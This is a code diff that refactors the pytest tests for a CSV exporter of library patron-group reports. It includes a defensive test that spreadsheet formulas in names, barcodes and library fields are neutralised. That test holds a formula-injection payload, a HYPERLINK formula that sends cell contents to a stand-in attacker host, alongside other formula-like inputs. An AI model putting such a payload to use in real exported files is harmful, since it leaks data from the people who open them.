@@ -11,19 +11,8 @@ from typing import Any
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from support import report_samples as samples
 from support.rendered import written
-from support.report_samples import (
-    blocked_report,
-    changed_report,
-    empty_report,
-    hostile_changed_reports,
-    hostile_reports,
-    hostile_texts,
-    member,
-    report_of,
-    report_with_limits,
-    sample_report,
-)
 
 from evergreen_groups.groups import Group
 from evergreen_groups.render.text import escape_formula
@@ -75,7 +64,7 @@ def taken_back(cell: str) -> str:
 
 
 def test_one_row_for_each_member() -> None:
-    report = sample_report()
+    report = samples.sample_report()
     read = rows(csv_text(report))
     members = [(group, one) for group in report.groups for one in group.members]
     assert len(read) == len(members)
@@ -93,17 +82,17 @@ def test_one_row_for_each_member() -> None:
 
 
 def test_each_member_has_the_limit_that_counts_for_them() -> None:
-    assert [row["member_limit"] for row in rows(csv_text(report_with_limits()))] == ["5.00", "2.00", ""]
+    assert [row["member_limit"] for row in rows(csv_text(samples.report_with_limits()))] == ["5.00", "2.00", ""]
 
 
 def test_one_row_for_each_group_without_details() -> None:
-    text = csv_text(sample_report(), details=False)
+    text = csv_text(samples.sample_report(), details=False)
     assert text.split("\r\n")[0] == ",".join((OF_GROUPS, OF_CHANGES, GROUP_DETAILS, LAST))
     assert [row["group"] for row in rows(text)] == ["1187", "902", "2240", "85", "31007"]
 
 
 def test_incomplete_groups() -> None:
-    read = {row["group"]: row for row in rows(csv_text(sample_report(), details=False))}
+    read = {row["group"]: row for row in rows(csv_text(samples.sample_report(), details=False))}
     assert (read["902"]["complete"], read["902"]["hidden_member_count"]) == ("true", "0")
     counts = ("owing_count", "highest_own_fines", "over_limit_count")
     shown = {group: [(row[name], row[f"{name}_at_least"]) for name in counts] for group, row in read.items()}
@@ -116,7 +105,7 @@ def test_incomplete_groups() -> None:
 
 @pytest.mark.parametrize("details", [True, False])
 def test_what_is_summed_by_group_adds_up_in_the_rows_that_have_it_once(details: bool) -> None:
-    report = changed_report()
+    report = samples.changed_report()
     once = [row for row in rows(csv_text(report, details=details)) if row["first_of_group"] == "true"]
     assert [row["group"] for row in once] == [str(group.number) for group in report.groups]
     known = [row["combined_fines"] for row in once if row["combined_fines"]]
@@ -128,11 +117,11 @@ def test_what_is_summed_by_group_adds_up_in_the_rows_that_have_it_once(details: 
 
 def test_header_alone_when_empty() -> None:
     columns = (OF_GROUPS, OF_MEMBERS, OF_CHANGES, OF_BLOCKS, GROUP_DETAILS, MEMBER_DETAILS, LAST)
-    assert csv_text(empty_report()) == ",".join(columns) + "\r\n"
+    assert csv_text(samples.empty_report()) == ",".join(columns) + "\r\n"
 
 
 def test_over_the_limit_and_blocked_in_evergreen_are_columns_of_their_own() -> None:
-    read = {row["member_id"]: row for row in rows(csv_text(blocked_report()))}
+    read = {row["member_id"]: row for row in rows(csv_text(samples.blocked_report()))}
     found = {
         id: [row["member_over_limit"], *(row[column] for column in OF_BLOCKS.split(","))] for id, row in read.items()
     }
@@ -140,11 +129,11 @@ def test_over_the_limit_and_blocked_in_evergreen_are_columns_of_their_own() -> N
     assert found["413"] == ["true", "", "not-yet-blocked"]
     assert found["977"] == ["false", "PATRON_EXCEEDS_FINES at CONS, by staff", "now-within-limit"]
     assert found["1203"] == ["false", "", ""]
-    assert all(row[column] == "" for row in rows(csv_text(sample_report())) for column in OF_BLOCKS.split(","))
+    assert all(row[column] == "" for row in rows(csv_text(samples.sample_report())) for column in OF_BLOCKS.split(","))
 
 
 def test_changes_are_in_columns_behind_those_of_members() -> None:
-    read = {row["group"]: row for row in rows(csv_text(changed_report(), details=False))}
+    read = {row["group"]: row for row in rows(csv_text(samples.changed_report(), details=False))}
     shown = {group: [row[column] for column in OF_CHANGES.split(",")] for group, row in read.items()}
     assert shown == {
         "1187": ["worse", "1204.00", "85.35", ""],
@@ -160,16 +149,20 @@ def test_changes_are_in_columns_behind_those_of_members() -> None:
 
 
 def test_cleared_groups_have_one_row_next_to_the_members() -> None:
-    read = rows(csv_text(changed_report()))
+    read = rows(csv_text(samples.changed_report()))
     assert [row["group"] for row in read if not row["member_id"]] == ["611", "17"]
     assert {row["change"] for row in read if row["group"] == "1187"} == {"worse"}
-    assert all(row[column] == "" for row in rows(csv_text(sample_report())) for column in OF_CHANGES.split(","))
+    assert all(row[column] == "" for row in rows(csv_text(samples.sample_report())) for column in OF_CHANGES.split(","))
 
 
 def test_for_spreadsheets() -> None:
-    plain = csv_text(sample_report())
-    assert csv_text(sample_report(), dialect="spreadsheet") == csv_text(sample_report(), bom=True) == "\ufeff" + plain
-    semicolons = csv_text(sample_report(), dialect="semicolon")
+    plain = csv_text(samples.sample_report())
+    assert (
+        csv_text(samples.sample_report(), dialect="spreadsheet")
+        == csv_text(samples.sample_report(), bom=True)
+        == "\ufeff" + plain
+    )
+    semicolons = csv_text(samples.sample_report(), dialect="semicolon")
     assert semicolons.startswith("\ufeffgroup;lead_id;lead_name")
     read = list(csv.DictReader(io.StringIO(semicolons.removeprefix("\ufeff")), delimiter=";"))
     for one, other in zip(read, rows(plain), strict=True):
@@ -180,11 +173,11 @@ def test_for_spreadsheets() -> None:
 
 def test_formulas_are_made_harmless_and_half_a_surrogate_pair_is_replaced() -> None:
     hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
-    report = report_of([Group(1, (member(1, hostile, "30.00", barcode="-1+1", library="@SUM(A1)"),))])
+    report = samples.report_of([Group(1, (samples.member(1, hostile, "30.00", barcode="-1+1", library="@SUM(A1)"),))])
     [row] = rows(csv_text(report))
     assert row["member_name"] == row["lead_name"] == "'" + hostile
     assert (row["member_barcode"], row["member_library"], row["library"]) == ("'-1+1", "'@SUM(A1)", "'@SUM(A1)")
-    report = report_of([Group(1, (member(1, "Smith\ud83d", "30.00"),))])
+    report = samples.report_of([Group(1, (samples.member(1, "Smith\ud83d", "30.00"),))])
     csv_text(report).encode("utf-8")
     assert rows(csv_text(report))[0]["member_name"] == "Smith\ufffd"
 
@@ -198,14 +191,14 @@ def test_blanks_before_a_formula_make_no_difference(before: str, sign: str) -> N
     assert taken_back(escape_formula(text)) == text
 
 
-@given(hostile_texts)
+@given(samples.hostile_texts)
 def test_the_apostrophe_can_be_taken_back(text: str) -> None:
     assert not escape_formula(text).startswith(FORMULA_SIGNS)
     assert taken_back(escape_formula(text)) == text
 
 
 @settings(deadline=None, max_examples=25)
-@given(hostile_reports() | hostile_changed_reports(), st.booleans())
+@given(samples.hostile_reports() | samples.hostile_changed_reports(), st.booleans())
 def test_hostile_names_read_back(report: Report, bom: bool) -> None:
     text = csv_text(report, bom=bom)
     text.encode("utf-8")
